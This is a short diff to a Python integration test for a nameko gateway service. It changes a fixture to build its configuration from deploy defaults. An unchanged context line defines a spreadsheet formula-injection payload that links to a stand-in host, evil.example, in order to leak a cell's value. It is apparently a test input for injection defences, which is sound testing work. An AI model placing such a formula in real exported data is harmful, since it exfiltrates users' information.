@@ -12,6 +12,7 @@ from nameko.rpc import rpc
 
 from services.common.mongo import make_client
 from services.gateway.app import GatewayService
+from tests.support.config import service_config
 from tests.support.net import free_port
 
 INJECTED = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'
@@ -44,7 +45,7 @@ class FakeAwards:
 def gateway(container_factory, rabbit_config, mongodb_uri):
     prefix = f"it_gw_{uuid.uuid4().hex[:8]}_"
     port = free_port()
-    config = dict(
+    config = service_config(  # deploy/config.yaml's defaults, then these
         rabbit_config,
         MONGODB_URI=mongodb_uri,
         MONGODB_DATABASE_PREFIX=prefix,
